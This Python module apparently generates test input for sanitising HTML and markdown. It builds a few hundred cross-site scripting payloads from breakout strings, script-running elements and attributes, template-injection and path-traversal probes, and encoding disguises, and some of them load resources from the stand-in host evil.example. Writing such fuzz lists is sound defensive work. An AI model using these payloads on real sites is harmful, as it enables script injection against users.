"""Texts that try to become code on a page: elements, attributes and addresses that run a script,
and ways to break out of the place of a value.

They are composed: every element behind every way to break out, and in several disguises; some
hundreds in all.
"""

import html
import itertools
import urllib.parse

CALL = "alert(1)"
# What would end a value in each place where one may be.
BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    "</style>",
    "</option></select>",
    "<![CDATA[",
    "</svg>",
)
ELEMENTS = (
    f"<script>{CALL}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<math><mtext><mglyph><style><img src=x onerror={CALL}></style></mglyph></mtext></math>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=javascript:{CALL}>",
    f"<a href=javascript:{CALL} autofocus>x</a>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<button formaction=javascript:{CALL}>x</button>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<body onload={CALL}>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content=0;url=javascript:{CALL}>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<x contenteditable onblur={CALL}>x",
    f"<select><option onclick={CALL}>x</select>",
    "<p style=background:url(//evil.example/)>x</p>",
    f"<dialog open onclose={CALL}>x</dialog>",
    f"<input type=image src=x onerror={CALL}>",
)
ATTRIBUTES = (
    f'" onmouseover="{CALL}',
    f"' onfocus='{CALL}' autofocus='",
    f"x onclick={CALL} ",
    '"style="background:url(//evil.example/)',
    f"` onload=`{CALL}`",
    f'" href="javascript:{CALL}',
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% raw %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{filename}/../../etc/passwd",
    "{static}/x",
    "{attach}x",
    "|filename|x",
    "%(evil)s",
    "%s%s%s%n",
    "{0.__class__}",
    "\\u003cscript\\u003e",
    "{% include 'base.html' %}",
)
MARKDOWN = (
    f"[x](javascript:{CALL})",
    f"![x](javascript:{CALL})",
    f"[x](data:text/html,<script>{CALL}</script>)",
    f"<javascript:{CALL}>",
    f"[x]: javascript:{CALL}\n\n[x]",
    f"[x](JaVaScRiPt:{CALL})",
    f"[x](java\tscript:{CALL})",
    f"[x](&#106;avascript:{CALL})",
    f"[x](vbscript:{CALL})",
    f'[x](//evil.example "onclick={CALL}")',
    f'[x](http://x "\'onmouseover={CALL}")',
    f"```<script>\n{CALL}\n```",
    f"<!-- --><img src=x onerror={CALL}>",
    "[a](<javascript:alert(1)>)",
    "![a](http://evil.example/x.png)",
    "[" * 2000,
)


def texts() -> list[str]:
    """Every payload once, in a fixed order."""
    plain = [before + element for before, element in itertools.product(BREAKS, ELEMENTS)]
    disguised = [
        change(element)
        for element in ELEMENTS
        for change in (html.escape, urllib.parse.quote, _mixed_case, _slashes, _wide)
    ]
    return list(dict.fromkeys((*plain, *disguised, *ATTRIBUTES, *TEMPLATES, *MARKDOWN)))


def _mixed_case(text: str) -> str:
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(text))


def _slashes(text: str) -> str:
    """Blanks as slashes, which HTML takes for the same between attributes."""
    return text.replace(" ", "/")


def _wide(text: str) -> str:
    """Angle brackets of full width, which some systems fold into the plain ones."""
    return text.replace("<", "\uff1c").replace(">", "\uff1e")
